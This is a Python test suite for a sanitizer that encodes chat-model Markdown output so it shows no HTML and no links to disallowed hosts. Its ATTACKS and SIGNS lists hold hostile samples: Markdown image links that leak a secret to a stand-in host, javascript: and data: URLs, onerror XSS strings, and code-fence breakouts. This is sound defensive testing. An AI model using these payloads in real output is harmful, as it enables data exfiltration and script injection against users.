"""Markdown as renderers read it: no HTML, no address of another host, whatever an answer holds."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from functools import cache
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bartizan.controls.chat.encode_model_output.hosts import fault, is_allowed
from bartizan.controls.chat.encode_model_output.markdown import Markdown
from bartizan.controls.chat.encode_model_output.policy import Addresses
from bartizan.controls.chat.encode_model_output.sinks import encoded
from bartizan.controls.chat.verdict import Edit

ADDRESSES = Addresses(links=("ok.example", "*.ok.example"), images=("img.example",))
GOOD_LINK = re.compile(r"https://(?:[a-z0-9-]+\.)*ok\.example(?:[/?#]|\Z)|#|\Z")
GOOD_IMAGE = re.compile(r"https://img\.example(?:[/?#]|\Z)")
BARE = re.compile(r"(?:(?:https?|ftp)://|www\.)(?=[a-z0-9])[^\s<]+", re.IGNORECASE)
GOOD_BARE = re.compile(
    r"(?:https://)?(?:[a-z0-9-]+\.)*(?:ok)\.example(?:[/?#]|[.,;:!?'\")\]*_~|]*\Z|\]\()", re.IGNORECASE
)
SIGNS = (
    *(
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "    ",
        "> ",
        "- ",
        "1. ",
        "|",
        "|--|\n",
        "\\",
        "[a]",
        "[",
        "](",
        "]:",
    ),
    *(
        "]",
        ")",
        "(",
        "![",
        "!",
        "<",
        ">",
        "<img src=x onerror=alert(1)>",
        "</div>",
        "<!--",
        "-->",
        "<https://evil.example>",
    ),
    *(
        "https://evil.example/x",
        "http://ok.example",
        "https://ok.example/p",
        "https://img.example/i.png",
        "www.evil.example",
    ),
    *(
        "//evil.example",
        "javascript:alert(1)",
        "data:text/html,x",
        "&#x6a;avascript:x",
        '"t"',
        "\r",
        "\u200b",
        "\t",
        "x",
    ),
    *(
        "[a]: https://evil.example\n",
        "![x](https://evil.example/y)",
        "`<b>`",
        "$$",
        "***",
        "---\n",
        "===\n",
        "# ",
        "&lt;",
    ),
    *(
        "https&colon;//evil.example",
        "@",
        "https://ok.example@evil.example/",
        "https:\\\\evil.example",
        "html\n",
        "https:",
        "//",
    ),
)


@cache
def renderer() -> Any:
    made = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    made.validateLink = lambda url: True  # type: ignore[method-assign]
    return made


def tokens(text: str) -> Iterator[Any]:
    for one in renderer().parse(text):
        yield one
        yield from one.children or ()


def harms(text: str) -> list[str]:
    """What a renderer would make of it that it must not."""
    found = []
    for one in tokens(text):
        if one.type in {"html_inline", "html_block"}:
            found.append(f"HTML {one.content!r}")
        if one.type == "link_open" and not GOOD_LINK.match(str(one.attrs["href"])):
            found.append(f"link {one.attrs['href']!r}")
        if one.type == "image" and not GOOD_IMAGE.match(str(one.attrs["src"])):
            found.append(f"image {one.attrs['src']!r}")
        if one.type == "text":  # GitHub's renderer and others make links of these
            found += [f"bare {url!r}" for url in BARE.findall(one.content) if not GOOD_BARE.match(url)]
    return found


def streamed(text: str, seed: int) -> str:
    """In pieces, every edit applied where it says; what is cleared never falls."""
    rng, at, cleared = random.Random(seed), 0, 0
    rewriter = Markdown(ADDRESSES)
    edits: list[Edit] = []
    while at < len(text):
        size = rng.choice((1, 2, 3, 7, 20))
        progress = rewriter.feed(text[at : at + size])
        at = min(at + size, len(text))
        assert cleared <= progress.cleared <= at
        assert all(cleared <= one.start <= one.end <= progress.cleared for one in progress.edits)
        cleared = progress.cleared
        edits += progress.edits
    progress = rewriter.flush()
    assert progress.cleared == len(text)
    out, at = "", 0
    for one in (*edits, *progress.edits):
        out += text[at : one.start] + one.text
        at = one.end
    return out + text[at:]


ATTACKS = (
    "![x](https://evil.example/?q=secret)",
    "![x](<https://evil.example/?q=secret>)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[r]:\nhttps://evil.example",
    "[r]: <https://evil.example>\n\n[r]",
    "> [r]: https://evil.example\n\n[r]",
    "[click](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1))",
    "[a](//evil.example) [b](\\\\evil.example) [c](https:evil.example) [d](https:/evil.example) [e](https:///evil.example)",
    "[a](https://ok.example@evil.example/) [b](https://ok.example\\@evil.example) [c](https://ok.example%2eevil.example)",
    "[a](https://ok.example.evil.example) [b](https://evilok.example) [c](https://оk.example)",
    "[a](https://ok.example,.evil.example/) https://ok.example,.evil.example/ https://ok.example).evil.example/x",
    "[a](https&#58;//evil.example) [b](&#104;ttps://evil.example)",
    "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml,x)",
    "<https://evil.example> <javascript:alert(1)> <a@evil.example> <img src=https://evil.example>",
    "<scr<script>ipt>alert(1)</script>",
    "line ` one\n` <img src=x onerror=alert(1)> `",
    "| a |\n|--|\n| `x | <img src=x> | y` |",
    "| a | b | c |\n|--|--|--|\n| `x | <img src=x> | y` |",
    "``` a | b\n|---|---|\n<img src=x> | y\n",
    '[a]: /url "`"\n<img src=x> `',
    "- ```\n```\n<img src=x>\n```\n",
    "> ```\n<img src=x>",
    "```\n~~~\n```\n<img src=x>",
    "````\n```\n<img src=x>\n````\n<img src=y>",
    "~~~ `\n~~~\n<img src=x> `",
    "``` a`b\n<img src=x>\n```",
    "\u200b```\n<img src=x>",
    "```\n\u200b```\n<img src=x>\n",
    "<\u200bimg src=x>",
    "```\r<img src=x>\r```\r<img src=y>",
    "`a\r\n`<img src=x>`",
    "    ` x\n\n` <img src=x> `",
    "\\`<img src=x>`",
    "`\\` <img src=x> `",
    "[![x](https://img.example/a)](https://evil.example)",
    '[x](https://ok.example "`") <img src=x> `',
    "visit www.evil.example/x and http://ok.example and ftp://ok.example",
    "<https://ok.example/`> <img src=x> `",
    "![a `](https://evil.example)` ](https://evil.example)",
    "[a\n](https://evil.example) [b](\nhttps://evil.example\n)",
    "[x](https://ok.example 'a`') <img src=x> `",
    '[r]: https://ok.example "`"\n<img src=x> `',
    "https&colon;//evil.example &#x202e; www&period;evil.example",
    "<!-- x --> <?php x ?> <![CDATA[x]]> <!DOCTYPE x>",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_acts(attack: str) -> None:
    assert not harms(encoded(attack, "markdown", ADDRESSES))


def test_most_of_these_attacks_act_where_nothing_is_encoded() -> None:
    assert sum(bool(harms(one)) for one in ATTACKS) > 0.8 * len(ATTACKS)


@settings(max_examples=1500)
@given(st.lists(st.sampled_from(SIGNS), max_size=14).map("".join))
@example("~~~\n~~~~ x\n<img src=x>")
def test_nothing_that_is_made_of_its_signs_acts(text: str) -> None:
    safe = encoded(text, "markdown", ADDRESSES)
    assert not harms(safe), safe


@settings(max_examples=300)
@given(st.lists(st.sampled_from(SIGNS), max_size=20).map("".join), st.integers(0, 999))
def test_pieces_give_what_the_whole_gives(text: str, seed: int) -> None:
    assert streamed(text, seed) == encoded(text, "markdown", ADDRESSES)


HARMLESS = (
    "Some *emphasis*, a [link](https://ok.example/a?b=1&c=2), **bold** and `x < y`.\n\n- one\n- two\n",
    "```html\n<b>bold</b> and https://evil.example in code\n```\nthen\n",
    "![a picture](https://img.example/a.png) and [b](https://docs.ok.example/x#y) and <https://ok.example/>",
    "a < b and b > c, arr[0], f(x), see https://ok.example/path_(x) now.",
    "| a | b |\n|---|---|\n| 1 | `2` |\n",
    "[r]: https://ok.example/x\n\nSee [r]. Flags 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f and ❤️.",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_not_touched(text: str) -> None:
    assert encoded(text, "markdown", ADDRESSES) == text


def test_ordinary_prose_is_not_held_back() -> None:
    rewriter = Markdown(ADDRESSES)
    text = "The committee met, again, in the old library. "
    assert rewriter.feed(text).cleared == len(text)
    assert rewriter.feed("what").cleared == len(text) + 4


def test_an_answer_that_never_closes_what_it_opens_is_not_held_without_end() -> None:
    for sign in ("`", "](", "<https:", "https://evil.example/", "![", "![a](", "]: "):
        rewriter, fed = Markdown(ADDRESSES), 0
        for piece in (sign, *["a" * 50] * 400):
            fed += len(piece)
            assert fed - rewriter.feed(piece).cleared < 3000


@pytest.mark.parametrize("host", ["https://a.example", "a b", "*", "a..b", "", "*.*.example", "a.example/x"])
def test_a_host_that_is_none_is_a_fault(host: str) -> None:
    assert fault(host)


def test_hosts_are_compared_as_browsers_go_to_them() -> None:
    def may(address: str, *hosts: str) -> bool:
        return is_allowed(address, hosts, ("https",))

    assert may("https://A.OK.example/x", "*.ok.example")
    assert not may("https://ok.example/x", "*.ok.example")
    assert not may("https://.ok.example/x", "*.ok.example")
    assert may("https://xn--bcher-kva.example/", "bücher.example")
    assert not may("https://bücher.example/", "bucher.example")
    assert may("https://ok.example:8443/", "ok.example:8443")
    assert not may("https://ok.example:8443/", "ok.example")
    assert not may("http://ok.example/", "ok.example")
    assert not may("https://ok.example\t/", "ok.example")
    assert not is_allowed("//ok.example", ("ok.example",), ("https",), relative=True)
    assert not is_allowed("/\\ok.example", ("ok.example",), ("https",), relative=True)
    assert is_allowed("/orders/7", (), (), relative=True)
